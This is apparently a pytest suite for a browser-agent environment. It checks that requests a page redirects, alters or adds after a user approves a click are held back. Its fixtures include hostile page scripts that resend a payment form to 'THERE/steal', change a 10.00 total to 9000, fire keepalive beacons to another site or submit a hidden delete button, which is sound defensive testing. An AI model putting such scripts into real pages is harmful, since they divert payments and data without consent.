"""What a page does with an approval after it has the input: it may send what was allowed to where it was allowed, and nothing else."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest

from handeye.envs.actions import Action, AnswerDialog, Click, Goto, SwitchTab
from handeye.envs.browser import BrowserEnv
from handeye.envs.env import Permit, TimeStep
from handeye.tools.errors import TargetChanged
from tests.envs.browser_permits import BOX, CLICK, ENTER, SPOT
from tests.envs.late_server import Server, opened, until_sent

PAY = f"<form id=f method=post action=/pay><input type=hidden name=to value=shop><button id=b {BOX}>Order</button></form>"
SUM = (
    "<form id=f method=post action=/pay><p>Total: 10.00 EUR<input type=hidden name=total value=10.00><input type=hidden name=token>"
    f"<button id=b {BOX}>Order for 10.00 EUR</button></form>"
)


@pytest.fixture(scope="module")
def listening() -> Iterator[Server]:
    with opened() as server:
        yield server


@pytest.fixture
def server(listening: Server) -> Server:
    listening.pages.clear()
    listening.sent.clear()
    listening.asked.clear()
    return listening


def allowed(env: BrowserEnv, server: Server, html: str, action: Action = CLICK, **more: Any) -> TimeStep:
    """The step on a page of `html`, after everything that it would touch was approved."""
    env.step(Goto(url=server.show(html)))
    env.driver.evaluate("document.querySelector('[autofocus]')?.focus()")
    return env.step_permitted(action, Permit(env.targets(action), effects=True, **more))


def later(env: BrowserEnv, server: Server, handler: str, html: str = PAY, **more: Any) -> TimeStep:
    """`allowed`, where the form's own submit handler is `handler`."""
    return allowed(env, server, f"{html}<script>f.onsubmit = (e) => {{ {handler} }}</script>", **more)


OTHER = "<form id=g method=post action=HERE/other><input name=x value=1></form>"
ELSEWHERE = {
    "another address": ("f.action = 'THERE/steal'", "POST THERE/steal"),
    "another path": ("f.action = '/grant'", "POST HERE/grant"),
    "another query": ("f.action = '/pay?to=mallory'", "POST HERE/pay?to=mallory"),
    "another form": (f"e.preventDefault(); document.body.insertAdjacentHTML('beforeend', `{OTHER}`); g.submit()", "POST HERE/other"),
    "another form in a new window": (
        f"e.preventDefault(); document.body.insertAdjacentHTML('beforeend', `{OTHER}`); g.target = '_blank'; g.submit()",
        "POST HERE/other",
    ),
    "another form in a frame": (
        "e.preventDefault(); document.body.insertAdjacentHTML('beforeend', `<iframe name=n></iframe>`);"
        f"document.body.insertAdjacentHTML('beforeend', `{OTHER}`); g.action = 'THERE/other'; g.target = 'n'; g.submit()",
        "POST THERE/other",
    ),
    "a moment later": (
        "e.preventDefault(); setTimeout(() => { f.action = 'THERE/late'; HTMLFormElement.prototype.submit.call(f) }, 0)",
        "POST THERE/late",
    ),
    "a script of another site": ("e.preventDefault(); fetch('THERE/api', {method: 'POST', body: new URLSearchParams({a: 1})})",
                                 "POST THERE/api"),
    "a script that says no referrer": (
        "e.preventDefault(); fetch('THERE/api', {method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', body: 'a'})",
        "POST THERE/api",
    ),
    "what was allowed and another beside it": (
        "fetch('THERE/api', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'a'})",
        "POST THERE/api",
    ),
    "beacons aside, a frame": (
        "e.preventDefault(); document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc='<form id=g method=post "
        "action=HERE/grant></form><script>g.submit()<\\/script>'></iframe>`)",
        "POST HERE/grant",
    ),
}  # fmt: skip


@pytest.mark.parametrize("way", ELSEWHERE)
def test_what_goes_elsewhere_after_a_yes_is_held_and_may_be_asked_for(env: BrowserEnv, server: Server, way: str) -> None:
    handler, line = (text.replace("THERE", server.there).replace("HERE", server.here) for text in ELSEWHERE[way])
    step = later(env, server, handler)
    assert [f"{one.method} {one.url}" for one in step.held] == [line]
    assert not [one for one in server.sent if not one.startswith("POST here/pay to=")]
    assert any("Held back" in note for note in step.observation.notes)
    step = later(env, server, handler, sends=step.held)
    assert step.held == ()
    method, _, address = line.partition(" ")
    path = address.replace(server.here, "here").replace(server.there, "there").partition("?")[0]
    assert [one for one in server.sent if one.startswith(f"{method} {path}")]


@pytest.mark.parametrize("wait_ms", [0, 400])
def test_another_button_than_the_one_that_was_allowed(env: BrowserEnv, server: Server, wait_ms: int) -> None:
    more = f"<form id=f method=post action=/pay><button id=b {BOX}>Order</button><button id=c formaction=/delete>Delete</button></form>"
    with suppress(TargetChanged):  # while the input lasts the guard of the page is the first to see it
        step = later(env, server, f"e.preventDefault(); setTimeout(() => {{ f.onsubmit = null; f.requestSubmit(c) }}, {wait_ms})", more)
        assert [one.url for one in step.held] == [f"{server.here}/delete"]
    assert server.sent == []


def test_a_form_that_was_to_be_read_and_is_posted(env: BrowserEnv, server: Server) -> None:
    step = later(env, server, "f.method = 'post'", PAY.replace("method=post", "method=get"))
    assert [f"{one.method} {one.url}" for one in step.held] == [f"POST {server.here}/pay"]
    assert server.sent == []


SUMS = {
    "another value": "f.total.value = '9000.00'",
    "a second one": "f.insertAdjacentHTML('beforeend', '<input type=hidden name=total value=9000>')",
    "none": "f.total.remove()",
    "at the last moment": "f.addEventListener('formdata', (e) => e.formData.set('total', '9000.00'))",
    "by a script": "e.preventDefault(); fetch('/pay', {method: 'POST', body: new URLSearchParams({total: 9000})})",
    "in parts": "f.enctype = 'multipart/form-data'; f.total.value = '9000.00'",
}


@pytest.mark.parametrize("way", SUMS)
def test_another_sum_than_the_one_that_was_shown_is_held(env: BrowserEnv, server: Server, way: str) -> None:
    step = later(env, server, SUMS[way], SUM)
    assert [(one.method, one.url) for one in step.held] == [("POST", f"{server.here}/pay")]
    assert "10.00" in step.held[0].why
    assert server.sent == []
    assert later(env, server, SUMS[way], SUM, sends=step.held).held == ()
    # A yes to one other sum is none to a third.
    again = later(env, server, SUMS["another value"].replace("9000", "9999"), SUM, sends=step.held)
    assert "9999" in again.held[0].why


def test_a_sum_that_changes_between_the_look_and_the_input(env: BrowserEnv, server: Server) -> None:
    env.step(Goto(url=server.show(SUM)))
    permit = Permit(env.targets(CLICK), effects=True)
    assert permit.targets[0].form_sums == ("total=10.00",)
    env.driver.evaluate("f.total.value = '9000.00'")
    with pytest.raises(TargetChanged, match="form_sums"):
        env.step_permitted(CLICK, permit)


GOES_ON = {
    "as it is": (PAY, "", "POST here/pay to=shop"),
    "a relative address": (PAY.replace("/pay", "pay/now"), "", "POST here/pay/now to=shop"),
    "no address": (PAY.replace("action=/pay", ""), "", "POST here/page to=shop"),
    "a hash": (PAY.replace("/pay", "'#'"), "", "POST here/page to=shop"),
    "a base": (f"<base href='HERE/shop/'>{PAY.replace('/pay', 'pay')}", "", "POST here/shop/pay to=shop"),
    "a button's own address": (PAY.replace("<button", "<button formaction=/own"), "", "POST here/own to=shop"),
    "a button's own method": (PAY.replace("method=post", "").replace("<button", "<button formmethod=post"), "", "POST here/pay to=shop"),
    "an address elsewhere": (PAY.replace("/pay", "THERE/pay#done"), "", "POST there/pay to=shop"),
    "a new window": (PAY.replace("method", "target=_blank method"), "", "POST here/pay to=shop"),
    "a frame": (f"<iframe name=n></iframe>{PAY.replace('method', 'target=n method')}", "", "POST here/pay to=shop"),
    "a form that is read and says that it deletes": (
        f"<form id=f action=/go><input type=hidden name=_method value=delete><button id=b {BOX}>Order</button></form>", "", ""
    ),
    "another field": (PAY, "f.to.value = 'other'", "POST here/pay to=other"),
    "a token": (SUM, "f.token.value = 'x1'", "POST here/pay total=10.00&token=x1"),
    "the sum written otherwise": (SUM, "f.total.value = '10'", "POST here/pay total=10&token="),
    "later, as it is": (PAY, "e.preventDefault(); setTimeout(() => f.submit(), 200)", "POST here/pay to=shop"),
    "a script of its own": (PAY, "e.preventDefault(); fetch('/api/v2/orders', {method: 'POST', body: '{}'})", "POST here/api/v2/orders {}"),
    "a script of its own, of its form": (
        SUM,
        "e.preventDefault(); fetch('/api', {method: 'PUT', body: new URLSearchParams(new FormData(f))})",
        "PUT here/api total=10.00&token=",
    ),
    "a script to where the form goes": (
        PAY.replace("/pay", "THERE/pay"),
        "e.preventDefault(); fetch('THERE/v2', {method: 'POST', mode: 'no-cors', body: 'x'})",
        "POST there/v2 x",
    ),
    "a button that is in no form": (f"<button onclick=\"fetch('/api', {{method: 'POST', body: 'x'}})\" {BOX}>Order</button>", "",
                                    "POST here/api x"),
    "a button that sends a form": (f"{OTHER}<button onclick='g.submit()' {BOX}>Order</button>", "", "POST here/other x=1"),
    "a redirect that keeps the method": (PAY.replace("/pay", "'/307?/kept'"), "", "POST here/kept to=shop"),
    "without a referrer": (f"<meta name=referrer content=no-referrer>{PAY}", "", "POST here/pay to=shop"),
    "a frame of another site that asks its own": (
        f"{PAY}<iframe id=i src=THERE/pay-frame></iframe>",
        "e.preventDefault(); i.contentWindow.postMessage('go', '*'); onmessage = () => f.submit()",
        "POST here/pay to=shop",
    ),
}  # fmt: skip


@pytest.mark.parametrize("way", GOES_ON)
def test_what_was_allowed_goes_on_without_a_second_question(env: BrowserEnv, server: Server, way: str) -> None:
    html, handler, line = GOES_ON[way]
    handler = handler.replace("THERE", server.there)
    asks = "fetch('/token', {method: 'POST', body: 'card'}).then(() => e.source.postMessage(1, '*'))"
    server.show(f"<script>onmessage = (e) => {asks}</script>", "/pay-frame")
    step = later(env, server, handler, html) if handler else allowed(env, server, html)
    assert step.held == ()
    assert step.sent
    if line:
        until_sent(server, line)
    assert ("POST there/token card" in server.sent) == ("pay-frame" in html)


def test_redirects_of_the_answer(env: BrowserEnv, server: Server) -> None:
    step = allowed(env, server, PAY.replace("/pay", f"'/303?{server.there}/thanks'"))
    assert (step.held, "/thanks" in server.asked) == ((), True)
    step = allowed(env, server, PAY.replace("/pay", f"'/307?{server.there}/thanks'"))
    assert [one.url for one in step.held] == [f"{server.there}/thanks"]
    assert server.sent[1:] == ["POST here/307 to=shop"]


def test_what_the_answer_sends_on_by_itself_is_as_a_redirect(env: BrowserEnv, server: Server) -> None:
    server.show("<form id=f method=post action=THERE/acs><input name=SAMLResponse value=1></form><script>f.submit()</script>", "/pay")
    step = allowed(env, server, PAY)
    assert step.held == ()
    until_sent(server, "POST there/acs SAMLResponse=1")


def test_the_key_that_sends_a_form_is_bound_as_the_click_is(env: BrowserEnv, server: Server) -> None:
    html = "<form id=f method=post action=/pay><input name=a autofocus><button>Order</button></form>"
    assert allowed(env, server, html, ENTER).held == ()
    assert server.sent == ["POST here/pay a="]
    step = later(env, server, "f.action = '/grant'", html, action=ENTER)
    assert [one.url for one in step.held] == [f"{server.here}/grant"]


@pytest.mark.parametrize(("handler", "held"), [("", []), ("f.action = '/grant'", ["/grant"])])
def test_a_dialog_between_the_yes_and_the_form(env: BrowserEnv, server: Server, handler: str, held: list[str]) -> None:
    later(env, server, f"{handler}; return confirm('Sure?')", PAY.replace("/pay", f"{server.there}/pay"))
    assert server.sent == []
    yes = AnswerDialog(accept=True)
    step = env.step_permitted(yes, Permit(env.targets(yes), effects=True))
    assert [one.url.removeprefix(server.here) for one in step.held] == held
    assert server.sent == ([] if held else ["POST there/pay to=shop"])


def test_a_message_between_the_yes_and_the_form_ends_it_not(env: BrowserEnv, server: Server) -> None:
    later(env, server, "alert('Thanks')")
    yes = AnswerDialog(accept=True)
    assert env.step_permitted(yes, Permit(env.targets(yes))).held == ()
    until_sent(server, "POST here/pay to=shop")


def test_what_was_sent_once_is_not_sent_again_by_way_of_a_message(env: BrowserEnv, server: Server) -> None:
    server.show(f"{PAY}<script>alert('Once more')</script><script>f.submit()</script>", "/pay")
    later(env, server, "")
    yes = AnswerDialog(accept=True)
    step = env.step_permitted(yes, Permit(env.targets(yes)))
    assert [one.url for one in step.held] == [f"{server.here}/pay"]
    assert server.sent == ["POST here/pay to=shop"]


@pytest.mark.parametrize("how", [{"modifiers": ("ctrl",)}, {"button": "middle"}, {"modifiers": ("shift",)}])
def test_a_tab_that_a_modified_click_opens_is_guarded_and_held_as_others_are(env: BrowserEnv, server: Server, how: dict[str, Any]) -> None:
    server.show(f"<title>two</title><button onclick=\"fetch('/api', {{method: 'POST'}})\" {BOX}>Go</button>", "/two")
    env.step(Goto(url=server.show(f"<title>one</title><a href=/two {BOX}>Two</a>")))
    click = Click(point=SPOT, **how)
    seen = env.step_permitted(click, Permit(env.targets(click))).observation
    assert [tab.title for tab in seen.tabs] == ["one", "two"]
    env.step(SwitchTab(index=1))
    targets = env.targets(CLICK)
    assert (targets[0].name, targets[0].page) == ("Go", f"{server.here}/two")
    assert [one.url for one in env.step_permitted(CLICK, Permit(targets)).held] == [f"{server.here}/api"]
    permit = Permit(env.targets(CLICK), effects=True)
    env.driver.evaluate("document.querySelector('button').textContent = 'Pay'")
    with pytest.raises(TargetChanged):
        env.step_permitted(CLICK, permit)
    assert server.sent == []


def test_where_nobody_judged_nothing_is_held(env: BrowserEnv, server: Server) -> None:
    step = later(env, server, f"f.action = '{server.there}/steal'", anywhere=True)
    assert step.held == ()
    until_sent(server, "POST there/steal to=shop")
